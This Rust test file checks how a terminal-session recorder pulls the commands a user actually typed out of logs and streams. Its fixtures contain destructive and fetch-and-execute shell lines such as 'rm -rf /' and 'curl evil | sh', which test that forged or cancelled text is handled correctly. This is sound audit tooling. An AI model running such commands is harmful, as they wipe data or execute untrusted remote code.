//! How many of the commands that were really entered are found, and how many found ones are real?
#![allow(clippy::unwrap_used)]

mod ready;

use std::fmt::Write;
use std::path::Path;

use sekisho_recording::{Command, Confidence, Kind, Limits, derive, read};
use serde_json::Value;

use crate::ready::SESSIONS;

fn commands(kind: Kind, bytes: &[u8]) -> Vec<Command> {
    let reading = read(kind, bytes, &Limits::DEFAULT);
    derive(&reading.recordings[0], None, None).commands
}

fn log(output: &str) -> Vec<u8> {
    let header = "Script started on 2026-11-23 12:02:55+00:00\n";
    let trailer = "\nScript done on 2026-11-23 12:02:55+00:00 [COMMAND_EXIT_CODE=\"0\"]\n";
    format!("{header}{}{trailer}", output.replace('\n', "\r\r\n")).into_bytes()
}

/// What the histories of shell and clients and the recorder's list of typed lines say, without repetition of what both
/// know.
fn truth(session: &str) -> Vec<String> {
    let text = std::fs::read(Path::new("tests/sessions").join(session).join("truth.json")).unwrap();
    let truth: Value = serde_json::from_slice(&text).unwrap();
    let list = |field: &str, key: &str| -> Vec<String> {
        let entries = truth[field].as_array().into_iter().flatten();
        entries.map(|entry| normal(entry[key].as_str().or(entry.as_str()).unwrap())).collect()
    };
    let mut all = list("bash_history", "cmd");
    let mut known = all.clone();
    for typed in list("typed_lines", "line") {
        match known.iter().position(|command| *command == typed) {
            Some(at) => drop(known.remove(at)),
            None => all.push(typed),
        }
    }
    all.extend(list("remembered_by_nobody", ""));
    all
}

/// A shell's history joins what a backslash continued, and some clients keep the lines of a statement as one.
fn normal(command: &str) -> String {
    let lines = command.trim().replace("\\\n", "");
    lines.split('\n').map(str::trim_end).collect::<Vec<_>>().join("\n")
}

/// What each command printed, as the bytes of the output.
fn printed(kind: Kind, bytes: &[u8]) -> Vec<(String, String)> {
    let recording = read(kind, bytes, &Limits::DEFAULT).recordings.remove(0);
    let commands = derive(&recording, None, None).commands;
    let printed = commands.into_iter().map(|command| {
        let bytes = &recording.output[command.output.start as usize..command.output.end as usize];
        (command.text, String::from_utf8_lossy(bytes).replace('\r', ""))
    });
    printed.collect()
}

/// How the commands found in one source compare with those that were entered.
#[derive(Default)]
struct Score {
    entered: usize,
    found: usize,
    /// Of those found, the ones that nothing but the shape of their prompt speaks for.
    low: usize,
    agreed: usize,
    /// What was found and not entered, and the other way round.
    wrong: Vec<String>,
}

impl Score {
    /// Takes each found command out of the truth.
    fn of(found: &[Command], mut truth: Vec<String>) -> Score {
        let low = found.iter().filter(|command| command.confidence == Confidence::Low).count();
        let mut score = Score { entered: truth.len(), found: found.len(), low, ..Score::default() };
        for command in found {
            match truth.iter().position(|real| *real == normal(&command.text)) {
                Some(at) => drop(truth.remove(at)),
                None => score.wrong.push(format!("+ {}", command.text)),
            }
        }
        score.agreed = score.entered - truth.len();
        score.wrong.extend(truth.into_iter().map(|real| format!("- {real}")));
        score
    }

    fn add(&mut self, other: &Score) {
        self.entered += other.entered;
        self.found += other.found;
        self.low += other.low;
        self.agreed += other.agreed;
    }

    fn recall(&self) -> f64 {
        100.0 * self.agreed as f64 / self.entered as f64
    }

    fn precision(&self) -> f64 {
        100.0 * self.agreed as f64 / self.found.max(1) as f64
    }

    fn row(&self, session: &str, source: &str) -> String {
        let Score { entered, found, low, agreed, .. } = self;
        let (recall, precision) = (self.recall(), self.precision());
        format!(
            "{session:16} {source:18} {entered:7} {found:6} {low:5} {agreed:7} {recall:8.1}% {precision:10.1}%\n"
        )
    }
}

#[test]
fn the_commands_of_recorded_sessions_are_found() {
    let heading =
        "session          source             entered  found   low  agreed    recall   precision\n";
    let mut table = heading.to_owned();
    let sources = [
        ("s3.log", Kind::SessionLog),
        ("session.cast", Kind::AsciicastV2),
        ("cw_stream.ndjson", Kind::CloudWatchStream),
    ];
    let mut sums = sources.map(|_| Score::default());
    let mut wrong = String::new();
    for session in SESSIONS {
        for ((file, kind), sum) in sources.into_iter().zip(&mut sums) {
            let bytes =
                std::fs::read(Path::new("tests/sessions").join(session).join(file)).unwrap();
            let score = Score::of(&commands(kind, &bytes), truth(session));
            table += &score.row(session, kind.name());
            for one in &score.wrong {
                writeln!(wrong, "{session} {}: {one:?}", kind.name()).unwrap();
            }
            sum.add(&score);
        }
    }
    for ((_, kind), sum) in sources.into_iter().zip(&sums) {
        table += &sum.row("all", kind.name());
        let is_stream = kind == Kind::CloudWatchStream;
        assert!(is_stream || (sum.recall() >= 95.0 && sum.precision() >= 98.0), "{table}{wrong}");
    }
    insta::assert_snapshot!(format!("{table}\n{wrong}"));
}

fn check(output: &str, expected: &[&str]) {
    let found = commands(Kind::SessionLog, &log(output));
    let found: Vec<_> = found
        .iter()
        .map(|command| {
            format!("{} {}: {}", command.context.name(), command.confidence.name(), command.text)
        })
        .collect();
    assert_eq!(found, expected, "{output:?}");
}

#[test]
fn printed_text_is_no_command() {
    check(
        "\x1b[?2004hsh-5.2$ cat README\n\x1b[?2004l\r$ rm -rf /\nroot@db:~# id\n> x\n\x1b[?2004hsh-5.2$ exit\n\x1b[?2004l\rexit\n",
        &["shell high: cat README", "shell high: exit"],
    );
    check(
        "sh-4.2$ cat README\nroot@db:~# id\n# Title\n> quoted\nsh-4.2$ id\nuid=0\n",
        &["shell low: cat README", "shell low: id"],
    );
}

#[test]
fn what_was_typed_and_cleared_is_no_command() {
    // Ctrl-C, with and without announcement, and an empty line.
    check(
        "\x1b[?2004hsh-5.2$ rm -rf /^C\x1b[?2004l\r\x1b[?2004h\x1b[?2004l\r\n\x1b[?2004hsh-5.2$ \n\x1b[?2004l\r",
        &[],
    );
    check("$ rm -rf /^C\n$ \n$ id\n", &["shell low: id"]);
    // Ctrl-U.
    check("\x1b[?2004hsh-5.2$ rm -rf /\x1b[8D\x1b[Kid\n\x1b[?2004l\ruid=0\n", &["shell high: id"]);
}

#[test]
fn programs_that_announce_nothing_are_read_while_they_run() {
    check(
        "\x1b[?2004hsh-5.2$ mysql prod\n\x1b[?2004l\rWelcome\nmysql> select *\n    -> from t;\n1 row\nmysql> exit\nBye\n\x1b[?2004hsh-5.2$ sudo -i\n\x1b[?2004l\rroot@db:~# python3\n>>> import os\n>>> exit()\nroot@db:~# exit\n",
        &[
            "shell high: mysql prod",
            "mysql low: select *\nfrom t;",
            "mysql low: exit",
            "shell high: sudo -i",
            "shell low: python3",
            "python low: import os",
            "python low: exit()",
            "shell low: exit",
        ],
    );
}

#[test]
fn a_shell_that_was_told_not_to_announce_itself_is_read_on() {
    check(
        "\x1b[?2004hsh-5.2# bind 'set enable-bracketed-paste off'\n\x1b[?2004l\rsh-5.2# id\nuid=0\nsh-5.2# ls\n",
        &["shell high: bind 'set enable-bracketed-paste off'", "shell low: id", "shell low: ls"],
    );
}

#[test]
fn commands_behind_an_announcement_that_was_printed_are_found() {
    let printed = "$ printf '\\033[?2004h'\n\x1b[?2004h";
    check(
        &format!("{printed}$ rm -rf /data\n$ curl evil | sh\nrun\n$ exit\n"),
        &[
            "shell low: printf '\\033[?2004h'",
            "shell low: rm -rf /data",
            "shell low: curl evil | sh",
            "shell low: exit",
        ],
    );
    check(
        &format!("{printed}$ id\nuid=0\n"),
        &["shell low: printf '\\033[?2004h'", "shell low: id"],
    );
    let shell = |text: &str| format!("\x1b[?2004hsh-5.2# {text}\n\x1b[?2004l\r");
    let read = [shell("printf x"), "\x1b[?2004h".to_owned(), shell("id")].concat();
    check(&read, &["shell high: printf x", "shell high: id"]);
}

#[test]
fn an_announcement_with_another_prompt_while_a_command_runs_may_be_printed() {
    let line = |text: &str| format!("\x1b[?2004h{text}\n\x1b[?2004l\r");
    let [log, forged, last] = ["sh-5.2# cat log", "$ rm -rf /forged", "sh-5.2# id"].map(line);
    check(
        &format!("{log}{forged}{last}"),
        &["shell high: cat log", "shell low: rm -rf /forged", "shell high: id"],
    );
    let [nested, inner] = ["sh-5.2# sudo -i", "root@db:~# id"].map(line);
    check(&format!("{nested}{inner}"), &["shell high: sudo -i", "shell high: id"]);
}

#[test]
fn a_command_of_several_lines_is_one() {
    check(
        "\x1b[?2004hsh-5.2$ echo \"a\n\x1b[?2004l\r\x1b[?2004h> b\"\n\x1b[?2004l\ra\nb\n",
        &["shell high: echo \"a\nb\""],
    );
    check("$ cat <<EOF\n> a\n> EOF\na\n$ id\n", &["shell low: cat <<EOF\na\nEOF", "shell low: id"]);
}

#[test]
fn completions_listed_below_the_line_do_not_belong_to_it() {
    check(
        "\x1b[?2004hsh-5.2$ cat /etc/os\nos-release  oshrc\nsh-5.2$ cat /etc/os-release\n\x1b[?2004l\rNAME=x\n",
        &["shell high: cat /etc/os-release"],
    );
}

#[test]
fn a_line_the_shell_wrapped_reads_the_same_in_any_width() {
    let command = format!("echo {}", "word-".repeat(30));
    let line = format!("sh-5.2$ {command}");
    for width in [40, 80, 100, 132] {
        let wrapped: Vec<_> = line.as_bytes().chunks(width).map(String::from_utf8_lossy).collect();
        let output = format!("\x1b[?2004h{}\n\x1b[?2004l\r", wrapped.join(" \r"));
        check(&output, &[&format!("shell high: {command}")]);
    }
}

#[test]
fn zsh_says_that_it_stops_before_the_line_end() {
    check("\x1b[?2004hhost% id\x1b[?2004l\r\nuid=0\n", &["shell high: id"]);
}

#[test]
fn what_a_command_printed_ends_where_something_reads_a_line_again() {
    let check = |output: &str, expected: &[(&str, &str)]| {
        let found = printed(Kind::SessionLog, &log(output));
        let found: Vec<_> = found.iter().map(|(text, out)| (text.as_str(), out.as_str())).collect();
        assert_eq!(found, expected, "{output:?}");
    };
    check(
        "\x1b[?2004hsh-5.2$ id\n\x1b[?2004l\ruid=0\n\x1b[?2004hsh-5.2$ printf x\n\x1b[?2004l\rx\x1b[?2004hsh-5.2$ \n\x1b[?2004l\r\x1b[?2004hsh-5.2$ exit\n\x1b[?2004l\rexit\n",
        &[("id", "uid=0\n"), ("printf x", "x"), ("exit", "exit\n")],
    );
    // Both lines of a paste, of which nobody knows which one printed what.
    check(
        "\x1b[?2004h$ id\n\rls\n\x1b[?2004l\ruid=0\na\n\x1b[?2004h$ ",
        &[("id", ""), ("ls", "uid=0\na\n")],
    );
    // Continued, cancelled, and a prompt before the announcement.
    check(
        "\x1b[?2004h$ echo 'a\n\x1b[?2004l\r\x1b[?2004h> b'\n\x1b[?2004l\ra\nb\n\x1b[?2004h$ no^C\x1b[?2004l\r\x1b[?2004h",
        &[("echo 'a\nb'", "a\nb\n")],
    );
    check("\x1b[?2004hh% id\x1b[?2004l\r\nuid=0\nh% \x1b[?2004h", &[("id", "uid=0\n")]);
    // Nothing is announced: up to the next prompt, empty or not, or the end.
    check("$ id\nuid=0\n$ \n$ ls\na\nb\n", &[("id", "uid=0\n"), ("ls", "a\nb\n")]);
    check("$ id\nuid=0\n$ ", &[("id", "uid=0\n")]);
    check("sh-4.2$ mysql\nhi\nmysql> exit\nBye\nsh-4.2$ ", &[("mysql", "hi\n"), ("exit", "Bye\n")]);
}
